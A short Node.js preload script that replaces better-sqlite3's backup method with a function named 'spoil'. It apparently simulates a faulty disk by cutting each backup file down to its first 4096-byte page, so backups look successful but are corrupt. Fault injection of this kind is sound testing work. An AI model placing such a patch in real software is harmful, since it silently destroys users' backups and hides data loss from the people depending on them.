// Preloaded into a command: the disk that a database is copied to keeps only its first page.
const { truncateSync } = require('node:fs');
const Database = require('better-sqlite3');

const { backup } = Database.prototype;
Database.prototype.backup = async function spoil(to, options) {
  await backup.call(this, to, options);
  truncateSync(to, 4096);
};
